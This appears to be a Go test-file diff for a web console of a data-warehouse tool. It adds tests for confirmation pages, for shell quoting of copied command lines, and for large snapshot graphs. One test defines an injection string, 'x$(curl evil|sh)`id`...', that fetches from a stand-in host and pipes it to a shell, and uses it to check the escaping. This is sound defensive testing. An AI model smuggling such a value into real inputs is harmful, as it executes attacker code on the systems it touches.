@@ -5,12 +5,14 @@ import (
 	"go/ast"
 	"go/parser"
 	"go/token"
+	"html"
 	"io"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"sync"
@@ -128,7 +130,7 @@ func answersOf(name string) map[string]any {
 		"/management/v1/principals":  client.PrincipalsPage{Principals: []client.Principal{{Name: name, Description: name}}},
 		"/management/v1/roles":       client.RolesPage{Roles: []client.Role{{Name: name}}},
 		"/management/v1/rows":        client.Rows{Columns: []client.RowColumn{{Name: name, Type: "string"}}, Rows: []json.RawMessage{[]byte("[1]")}},
-		"/management/v1/dropped":     client.DroppedPage{Dropped: dropped(name)},
+		"/management/v1/dropped":     client.DroppedPage{Dropped: dropped(name)[:1]},
 		"/management/v1/leases":      client.LeasesPage{Leases: []client.Lease{{Holder: name}}},
 	}
 }
@@ -139,11 +141,11 @@ func addresses(name string) map[place]string {
 	made := map[place]string{}
 	for p := range pages() {
 		made[p] = to(p, o, "q", name, "to", name, "from", name, "caller", name, "privilege", "read", "snapshot", "3", "ref", name, "type", "tag",
-			"change", "run", "kind", name, "id", name, "what", name, "grantee", name, "privileges", name, "prefix", name).href()
+			"change", "run", "kind", name, "id", name, "grantee", name, "privileges", name, "prefix", name).href()
 	}
-	made[placeUndrop] = to(placeUndrop, o, "change", "undrop", "id", name, "name", name, "as", name).href()
+	made[placeUndrop] = to(placeUndrop, o, "change", "undrop", "id", "a1", "as", name).href()
 	made[placeGrant] = to(placeGrant, o, "change", client.ChangeGrant, "grantee", name, "privileges", "read").href()
-	made[placeUnfinished] = to(placeUnfinished, o, "change", "abort", "id", name, "what", name).href()
+	made[placeUnfinished] = to(placeUnfinished, o, "change", "abort", "id", "1").href()
 	made[placeView] = to(placeView, client.Object{Warehouse: "default", Namespace: []string{"harbour"}, View: name}).href()
 	return made
 }
@@ -182,6 +184,133 @@ func TestPages(t *testing.T) {
 			}
 		}
 	}
+}
+
+// TestConfirmationNamesItsObject asks before changes with addresses that name another object than
+// the id does: each page names the object of the id, as the API knows it. An id that the API does
+// not know has no page with a form.
+func TestConfirmationNamesItsObject(t *testing.T) {
+	t.Parallel()
+	payroll := dropped("payroll")[0]
+	payroll.By = "bob"
+	server, api := newServer(map[string]any{
+		"/management/v1/dropped": client.DroppedPage{Dropped: []client.Dropped{payroll}},
+		"/management/v1/doctor": client.FindingsPage{Findings: []client.Finding{
+			{ID: "b1", What: "purge of harbour.payroll", Fact: "waits for bob"}, {What: "disk"},
+		}},
+	})
+	lie := []string{"name", "tmp_1", "what", "tmp_1"}
+	ask := func(p place, more ...string) target {
+		return to(p, client.Object{Warehouse: "default", Namespace: []string{"tmp_1"}}, append(more, lie...)...)
+	}
+	for _, asked := range []target{
+		ask(placeUndrop, "change", "purge", "id", "a1"), ask(placeUndrop, "change", "forget", "id", "a1"),
+		ask(placeUndrop, "change", "undrop", "id", "a1"), ask(placeUnfinished, "change", "retry", "id", "b1"),
+		ask(placeUnfinished, "change", "abort", "id", "b1"),
+	} {
+		w := send(server, http.MethodGet, asked.href(), "")
+		_, shown, _ := strings.Cut(w.Body.String(), "<main")
+		if w.Code != http.StatusOK || !strings.Contains(shown, "payroll") || !strings.Contains(shown, "bob") || strings.Contains(shown, "tmp_1") {
+			t.Errorf("%s: %d\n%s", asked.href(), w.Code, shown)
+		}
+		if asked.place == placeUndrop && (!strings.Contains(shown, "2026-11-27 11:38:00 UTC") || !strings.Contains(shown, "harbour.payroll")) {
+			t.Errorf("%s does not say what was dropped, and when:\n%s", asked.href(), shown)
+		}
+		if last := api.asked[len(api.asked)-1]; asked.place == placeUndrop && last.query != "id=a1&warehouse=default" {
+			t.Errorf("%s asks for %s", asked.href(), last.query)
+		}
+	}
+	for _, asked := range []target{
+		ask(placeUndrop, "change", "purge", "id", "a2"), ask(placeUndrop, "change", "purge"),
+		ask(placeUnfinished, "change", "abort", "id", "b2"), ask(placeUnfinished, "change", "abort"),
+	} {
+		w := send(server, http.MethodGet, asked.href(), "")
+		if w.Code != http.StatusNotFound || strings.Contains(w.Body.String(), `action="/console/do"`) {
+			t.Errorf("%s: %d\n%s", asked.href(), w.Code, w.Body)
+		}
+	}
+}
+
+// TestCommandsQuoteNames shows every page about objects whose names are commands of a shell. The
+// lines that visitors copy have these names in quotes.
+func TestCommandsQuoteNames(t *testing.T) {
+	t.Parallel()
+	const evil = "x$(curl evil|sh)`id`;&'\"\n>y *"
+	o := client.Object{Warehouse: evil, Namespace: []string{evil}, Table: evil}
+	details := head(o).details
+	details.Properties = nil
+	item := dropped(evil)[0]
+	item.Warehouse, item.Namespace = evil, []string{evil}
+	answers := answersOf(evil)
+	answers["/management/v1/object"] = details
+	answers["/management/v1/objects"] = client.ObjectsPage{}
+	answers["/management/v1/health"] = client.Health{}
+	answers["/management/v1/doctor"] = client.FindingsPage{Findings: []client.Finding{{ID: evil}}}
+	answers["/management/v1/dropped"] = client.DroppedPage{Dropped: []client.Dropped{item}}
+	answers["/management/v1/grants"] = client.GrantsPage{}
+	answers["/management/v1/maintenance"] = client.MaintenanceStatus{}
+	answers["/management/v1/warehouses/"] = client.Warehouse{WarehouseSummary: client.WarehouseSummary{Name: evil}}
+	answers["/management/v1/openapi.yaml"] = "paths:\n  /x" + evil + ":\n    get:\n      operationId: y\n"
+	delete(answers, "/management/v1/object?view")
+	asked := map[string]bool{
+		to(placeUndrop, o, "change", "undrop", "id", "a1", "as", evil).href():  true,
+		to(placeUnfinished, o, "change", "retry", "id", evil).href():           true,
+		to(placeBrowse, client.Object{Warehouse: evil}).href():                 true,
+		to(placeRef, o, "snapshot", "3", "ref", evil, "type", "branch").href(): true,
+		to(placeRollback, o, "to", evil, "ref", evil).href():                   true,
+		to(placeRollback, o, "to", evil, "ref", evil, "all", "yes").href():     true,
+		to(placeRun, o, "change", "run", "kind", evil).href():                  true,
+		to(placeRun, o, "change", "pause").href():                              true,
+		to(placeRun, o, "change", "resume").href():                             true,
+		to(placeGrants, o).href():                                              true,
+		to(placeMaintain, o).href():                                            true,
+		to(placeWarehouse, o).href():                                           true,
+		to(placeTable, o).href():                                               true,
+	}
+	for _, address := range addresses(evil) {
+		if _, isThere := asked[address]; !isThere {
+			asked[address] = false
+		}
+	}
+	code := regexp.MustCompile(`<code data-copy="">([^<]*)</code>`)
+	for address, mustHave := range asked {
+		server, _ := newServer(answers)
+		page := send(server, http.MethodGet, address, "").Body.String()
+		found := 0
+		for _, each := range code.FindAllStringSubmatch(page, -1) {
+			line := html.UnescapeString(each[1])
+			if !strings.HasPrefix(line, "moorage ") && !strings.HasPrefix(line, "curl ") {
+				continue
+			}
+			if strings.Contains(line, "curl evil") {
+				found++
+			}
+			if bare := unquoted(line); strings.ContainsAny(bare, "$`;&|<>(){}[]*?!\"\n") {
+				t.Errorf("%s shows %s, whose words without quotes are %s", address, line, bare)
+			}
+		}
+		if mustHave && found == 0 {
+			t.Errorf("%s has no command with the name:\n%s", address, page)
+		}
+	}
+}
+
+// unquoted returns the parts of a command line that a shell does not take literally.
+func unquoted(line string) string {
+	var bare strings.Builder
+	isQuoted := false
+	for i := 0; i < len(line); i++ {
+		switch {
+		case line[i] == '\'':
+			isQuoted = !isQuoted
+		case isQuoted:
+		case line[i] == '\\':
+			i++
+		default:
+			bare.WriteByte(line[i])
+		}
+	}
+	return bare.String()
 }
 
 // TestFailures shows the page of each failure of the API.
@@ -318,19 +447,56 @@ func TestTargets(t *testing.T) {
 // TestGraph arranges branches in lanes.
 func TestGraph(t *testing.T) {
 	t.Parallel()
-	rows, lanes := graphOf(documentOf("audit").Snapshots)
+	rows, lanes := graphOf(documentOf("audit").Snapshots, 0)
 	if lanes != 2 || rows[0].lane != 0 || rows[1].lane != 1 || rows[2].lane != 0 || !slices.Equal(rows[2].joins, []int{1}) || !slices.Equal(rows[1].passes, []int{0}) {
 		t.Errorf("%d lanes: %+v", lanes, rows)
 	}
 	// A parent that has expired ends the line; a cycle in a hostile file ends too.
-	rows, lanes = graphOf([]snapshot{{ID: 2, Parent: point(int64(1))}, {ID: 3, Parent: point(int64(4))}, {ID: 4, Parent: point(int64(3))}})
+	rows, lanes = graphOf([]snapshot{{ID: 2, Parent: point(int64(1))}, {ID: 3, Parent: point(int64(4))}, {ID: 4, Parent: point(int64(3))}}, 0)
 	if len(rows) != 3 || lanes != 1 {
 		t.Errorf("%d lanes: %+v", lanes, rows)
 	}
 }
 
+// TestGraphOfManyLanes arranges 40,000 snapshots; half of them are open at a time. The page has its
+// rows only, and at most lanesMax lanes.
+func TestGraphOfManyLanes(t *testing.T) {
+	t.Parallel()
+	const parents = 20_000
+	all := make([]snapshot, 0, 2*parents)
+	for i := range int64(2 * parents) {
+		made := snapshot{ID: i + 1, Sequence: i}
+		if i >= parents {
+			made.Parent = point(2*parents - i)
+		}
+		all = append(all, made)
+	}
+	for _, from := range []int{0, 30_000, 2*parents - 1, 2 * parents} {
+		rows, lanes := graphOf(all, from)
+		if want := min(snapshotRows, 2*parents-from); len(rows) != want || lanes != lanesMax {
+			t.Fatalf("from %d: %d rows in %d lanes", from, len(rows), lanes)
+		}
+		for i, row := range rows {
+			isParent := row.ID <= parents
+			if row.ID != int64(2*parents-from-i) || row.lane >= lanesMax || len(row.passes) > lanesMax || len(row.joins) >= lanesMax ||
+				row.above != isParent || row.below == isParent {
+				t.Fatalf("row %d from %d: %+v", i, from, row)
+			}
+		}
+	}
+	// All have the same parent: the lines that share a lane end together.
+	for i := range all[1:] {
+		all[i+1].Parent = point(int64(1))
+	}
+	rows, lanes := graphOf(all, 2*parents-1)
+	if lanes != lanesMax || len(rows) != 1 || rows[0].lane != 0 || len(rows[0].joins) != lanesMax-1 || len(rows[0].passes) != 0 {
+		t.Errorf("%d lanes: %+v", lanes, rows)
+	}
+}
+
 // TestOnlyOneFileIsRaw finds code that writes HTML without escaping outside html.go, and code
-// outside link.go and layout.go that makes an address.
+// outside link.go and layout.go that makes an address. It also finds lines for a shell that command
+// did not make.
 func TestOnlyOneFileIsRaw(t *testing.T) {
 	t.Parallel()
 	files, err := filepath.Glob("*.go")
@@ -354,6 +520,14 @@ func TestOnlyOneFileIsRaw(t *testing.T) {
 			t.Fatal(err)
 		}
 		ast.Inspect(parsed, func(node ast.Node) bool {
+			if made, ok := node.(*ast.CompositeLit); ok && len(made.Elts) > 0 && file != "html.go" {
+				if typ, isName := made.Type.(*ast.Ident); isName && typ.Name == "shellLine" {
+					t.Errorf("%s makes a shellLine without command", file)
+				}
+			}
+			if literal, ok := node.(*ast.BasicLit); ok && strings.HasPrefix(literal.Value, `"moorage `) {
+				t.Errorf("%s writes the command %s: use command", file, literal.Value)
+			}
 			selected, ok := node.(*ast.SelectorExpr)
 			if !ok {
 				return true
